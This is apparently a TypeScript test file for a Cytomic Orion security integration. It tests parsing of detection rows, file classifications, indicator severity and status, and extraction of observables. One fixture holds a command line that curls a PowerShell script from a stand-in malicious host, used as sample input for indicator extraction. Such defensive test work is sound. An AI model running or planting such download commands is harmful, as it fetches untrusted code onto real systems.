import fc from 'fast-check';
import { readFile } from '../../../nodes/CytomicOrion/answers/file';
import { factsOf, readIndicator } from '../../../nodes/CytomicOrion/answers/indicator';
import { observablesIn, parseDetails } from '../../../nodes/CytomicOrion/answers/observables';
import { field, rowsOf } from '../../../nodes/CytomicOrion/answers/row';

describe('rows', () => {
	test.each([
		['a list', [{ a: 1 }, { a: 2 }], 2],
		['an envelope around a list', { success: true, data: [{ a: 1 }, { a: 2 }] }, 2],
		['one object', { a: 1 }, 1],
		['a text', 'x', 0],
		['nothing', undefined, 0],
	])('of %s', (_, body, count) => {
		expect(rowsOf(body)).toHaveLength(count);
	});

	test('a field is found in whatever case', () => {
		expect(field({ MUID: 'x', Caseid: null }, 'muid')).toBe('x');
		expect(field({ MUID: 'x', Caseid: null }, 'caseId')).toBeUndefined();
	});
});

describe('a file', () => {
	test('has the classification that its name says, not its number', () => {
		expect(readFile('m', { fileName: 'a.exe', classification: 3, classificationName: 'Goodware' })).toMatchObject({
			known: true,
			classification: 'Goodware',
			classificationNumber: '3',
		});
		expect(readFile('m', { fileName: 'a.exe', classification: 2 })).toMatchObject({ classification: 'Unknown' });
	});

	test('with empty fields is unknown', () => {
		expect(
			readFile('m', { fileName: '', fileSize: 0, firstSeen: '0001-01-01T00:00:00', classificationName: '' }),
		).toMatchObject({ known: false });
	});
});

describe('an indicator', () => {
	test.each([
		[1, 'Critical'],
		['2', 'High'],
		['normal', 'Normal'],
		[4, 'Low'],
		[0, 'Undefined'],
		[null, 'Undefined'],
	])('of severity %j is %s', (severity, word) => {
		expect(factsOf({ severity }).severity).toBe(word);
	});

	test.each([
		['InProgress', 'InProgress'],
		['In progress', 'InProgress'],
		['Finished', 'Closed'],
		['closed', 'Closed'],
		['Escalated', 'Escalated'],
	])('of status %s is %s', (status, word) => {
		expect(factsOf({ status }).status).toBe(word);
	});

	test('without an id is told apart by computer, rule and time', () => {
		const at = { muid: 'M', huntingRule: 'R', timestamp: 1_767_323_045_000 };
		expect(factsOf(at).id).toBe(factsOf({ ...at }).id);
		expect(factsOf(at).id).not.toBe(factsOf({ ...at, muid: 'N' }).id);
	});

	test('keeps fields that are not known here', () => {
		expect(readIndicator({ id: '1', NewThing: 5 })).toMatchObject({ id: '1', newThing: 5 });
	});

	test('can be read whatever comes', () => {
		fc.assert(
			fc.property(fc.dictionary(fc.string(), fc.anything()), (row) => expect(() => readIndicator(row)).not.toThrow()),
		);
	});
});

describe('observables', () => {
	test('are the hashes, public addresses, domains and URLs in the details, wherever they are', () => {
		const details = {
			MachineName: 'PC-1',
			ChildMd5: 'D41D8CD98F00B204E9800998ECF8427E',
			ChildPath: 'C:\\Users\\a\\invoice.exe',
			CommandLine: 'curl "https://bad.feed-one.com/x.ps1" -o evil.ps1 && ping other.feed-one.com',
			LocalIP: '192.168.1.5',
			Deeper: [{ RemoteIP: '45.155.204.7', Sha256: 'a'.repeat(64) }],
			Version: '10.0.19045',
		};
		expect(observablesIn(details)).toEqual([
			{ type: 'hash', value: 'd41d8cd98f00b204e9800998ecf8427e' },
			{ type: 'url', value: 'https://bad.feed-one.com/x.ps1' },
			{ type: 'domain', value: 'other.feed-one.com' },
			{ type: 'ip', value: '45.155.204.7' },
		]);
	});

	test('are each named once, and not without end', () => {
		expect(observablesIn('a.feed-one.com A.feed-one.com')).toHaveLength(1);
		expect(observablesIn(Array.from({ length: 500 }, (_, n) => `h${n}.feed-one.com`))).toHaveLength(100);
	});

	test('come of details that are JSON in a text, and of plain text', () => {
		expect(observablesIn(parseDetails('{"Url":"http://a.feed-one.com/"}'))).toHaveLength(1);
		expect(observablesIn(parseDetails('{broken a.feed-one.com'))).toHaveLength(1);
		expect(parseDetails('')).toBeUndefined();
	});
});
